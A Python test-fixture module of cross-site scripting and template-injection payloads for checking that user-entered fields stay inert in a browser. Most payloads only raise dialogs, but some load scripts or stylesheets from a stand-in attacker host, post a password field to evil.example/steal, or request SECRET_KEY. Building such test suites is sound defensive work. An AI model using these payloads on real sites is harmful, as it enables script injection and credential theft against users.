"""Hostile strings that every user-written field must survive without running anything in a reader's browser.

Each payload names its class so that a failure says which kind of trick got through. They run `alert`,
`confirm` or `prompt` so that the browser test can listen for a dialog, and a few carry the marker number
TEMPLATE_MARKER so that a template engine evaluating user text would give itself away.
"""

import re
from dataclasses import dataclass

# 7191 * 7: seeing it as a number of its own means someone evaluated `{{ 7191*7 }}`.
TEMPLATE_MARKER = "50337"
# Inside a longer run of digits it is chance: a timestamp's microseconds ("12:22:59.250337") carry it now and then.
_MARKER_ALONE = re.compile(rf"(?<![0-9]){TEMPLATE_MARKER}(?![0-9])")


def shows_template_marker(text: str | bytes) -> bool:
    """Whether `text` shows TEMPLATE_MARKER as a number of its own, the sign of an evaluated template."""
    if isinstance(text, bytes):
        text = text.decode("utf-8", "replace")
    return _MARKER_ALONE.search(text) is not None


@dataclass(frozen=True)
class Payload:
    id: str
    kind: str
    text: str

    def __str__(self):
        return self.id


def _p(kind: str, *texts: str) -> list[Payload]:
    return [Payload(f"{kind}-{n}", kind, text) for n, text in enumerate(texts, start=1)]


SCRIPT_TAGS = _p(
    "script",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    "<script/x>alert(3)</script>",
    "<script\n>alert(4)</script\n>",
    "<<script>script>alert(5)<</script>/script>",
    '<script type="module">import("https://evil.example/m.js")</script>',
    "</script><script>alert(6)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\"></noscript>",
)

EVENT_HANDLERS = _p(
    "handler",
    "<img src=x onerror=alert(1)>",
    '<img/src="x"/onerror=alert(2)>',
    "<IMG SRC=x ONERROR=alert(3)>",
    "<img src=x onerror\x0b=alert(4)>",
    "<body onload=alert(5)>",
    "<details open ontoggle=alert(6)>summary</details>",
    "<input autofocus onfocus=alert(7)>",
    "<video><source onerror=alert(8)></video>",
    "<audio src=x onerror=alert(9)></audio>",
    "<marquee onstart=alert(10)>move</marquee>",
    '<div onmouseover="alert(11)">hover me</div>',
    '<a href="https://example.com/" onclick="alert(12)">a fair link</a>',
    "<img src=x:alert(13) onerror=eval(src)>",
    '<p onpointerenter="confirm(14)" tabindex=0>point here</p>',
    "<select autofocus onfocus=prompt(15)><option>x</option></select>",
)

DANGEROUS_URLS = _p(
    "url",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(2)">click</a>',
    '<a href=" javascript:alert(3)">leading space</a>',
    '<a href="java\tscript:alert(4)">tab inside</a>',
    '<a href="java\nscript:alert(5)">newline inside</a>',
    '<a href="\x01javascript:alert(6)">control char first</a>',
    '<a href="vbscript:msgbox(7)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg4KTwvc2NyaXB0Pg==">data link</a>',
    '<img src="javascript:alert(9)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTApPjwvc3ZnPg==">',
    '<a href="livescript:alert(11)">ls</a>',
    "<a href=javascript&colon;alert(12)>colon entity</a>",
)

SVG = _p(
    "svg",
    "<svg onload=alert(1)>",
    "<svg><script>alert(2)</script></svg>",
    '<svg><a xlink:href="javascript:alert(3)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(4) attributeName=x dur=1s></svg>",
    '<svg><a><set attributeName="href" to="javascript:alert(5)"/><text y="9">x</text></a></svg>',
    "<svg><use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;"
    "&lt;image href='1' onerror='alert(6)'/&gt;&lt;/svg&gt;#x\"/></svg>",
    '<svg><foreignObject><iframe srcdoc="<script>alert(7)</script>"></iframe></foreignObject></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(8)">m</maction></math>',
)

MARKDOWN = _p(
    "markdown",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(2))",
    "[click](<javascript:alert(3)>)",
    "[click]( javascript:alert(4) )",
    "[click](java&#115;cript:alert(5))",
    "[click](javascript&#58;alert(6))",
    "![pic](javascript:alert(7))",
    "![pic](data:text/html;base64,PHNjcmlwdD5hbGVydCg4KTwvc2NyaXB0Pg==)",
    "[ref link][evil]\n\n[evil]: javascript:alert(9)",
    "![ref image][evilimg]\n\n[evilimg]: javascript:alert(10)",
    "<javascript:alert(11)>",
    '[title breakout](https://example.com/ "x\\" onmouseover=\\"alert(12)")',
    '![alt" onerror="alert(13)](https://example.com/x.png)',
    "[<img src=x onerror=alert(14)>](https://example.com/)",
    "**<script>alert(15)</script>**",
    "[click](vbscript:msgbox(16))",
    "```\n</code></pre><script>alert(17)</script>\n```",
    "`<img src=x onerror=alert(18)>`",
    "> <iframe src=javascript:alert(19)></iframe>",
    "[a](https://example.com/)<a href='javascript:alert(20)'>b</a>",
)

ENCODING = _p(
    "encoding",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
    '<a href="&#x6A;avascript:alert(2)">hex entity</a>',
    '<a href="jav&#x09;ascript:alert(3)">tab entity</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116'
    '&#0000058alert(4)">padded entities</a>',
    "&lt;script&gt;alert(5)&lt;/script&gt;",
    "%3Cscript%3Ealert(6)%3C%2Fscript%3E",
    "+ADw-script+AD4-alert(7)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(8)\uff1c/script\uff1e",
    "<scr\x00ipt>alert(9)</scr\x00ipt>",
    "\\u003cscript\\u003ealert(10)\\u003c/script\\u003e",
    '<a href="javascript\u2028:alert(11)">line separator</a>',
)

BREAKOUTS = _p(
    "breakout",
    '" onmouseover="alert(1)',
    "' onfocus='alert(2)' autofocus '",
    '"><script>alert(3)</script>',
    "'><img src=x onerror=alert(4)>",
    "</textarea><script>alert(5)</script>",
    "</title><script>alert(6)</script>",
    "--><script>alert(7)</script>",
    "]]><script>alert(8)</script>",
    '<!--<img src="--><img src=x onerror=alert(9)//">',
    '"/><meta http-equiv="refresh" content="0;url=javascript:alert(10)">',
    "</style><script>alert(11)</script>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(12)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(13)>",
)

STYLE = _p(
    "style",
    '<div style="background:url(javascript:alert(1))">bg</div>',
    '<div style="width: expression(alert(2))">ie</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{behavior:url(https://evil.example/x.htc)}</style>",
    '<p style="-moz-binding:url(https://evil.example/x.xml#xss)">moz</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
)

EMBEDDING = _p(
    "embed",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(2)&lt;/script&gt;"></iframe>',
    '<object data="javascript:alert(3)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNCk+PC9zdmc+">',
    '<base href="javascript:alert(5)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(6)">',
    '<form action="javascript:alert(7)"><button>go</button></form>',
    '<button formaction="javascript:alert(8)">x</button>',
    '<form action="https://evil.example/steal"><input name="password"><input type=submit></form>',
    '<link rel="import" href="data:text/html,&lt;script&gt;alert(10)&lt;/script&gt;">',
    "<frameset onload=alert(11)>",
    '<isindex action="javascript:alert(12)" type="image">',
    '<applet code="x.class" codebase="javascript:alert(13)"></applet>',
    '<portal src="javascript:alert(14)"></portal>',
)

TEMPLATE_INJECTION = _p(
    "template",
    "{{ 7191*7 }}",
    "{% load static %}{% debug %}",
    "{{ settings.SECRET_KEY }}{{ request.user.password }}",
    "${7191*7}",
    "{{constructor.constructor('alert(1)')()}}",
    "#{7191*7}",
    "<%= 7191*7 %>",
    "{% for x in '12' %}{{ x }}{% endfor %}{% csrf_token %}",
)

PAYLOADS: list[Payload] = [
    *SCRIPT_TAGS,
    *EVENT_HANDLERS,
    *DANGEROUS_URLS,
    *SVG,
    *MARKDOWN,
    *ENCODING,
    *BREAKOUTS,
    *STYLE,
    *EMBEDDING,
    *TEMPLATE_INJECTION,
]

# Short enough for a title, a label or a display name (the tight fields cut at 60 to 80 characters).
SHORT_PAYLOADS: list[Payload] = [p for p in PAYLOADS if len(p.text) <= 60]
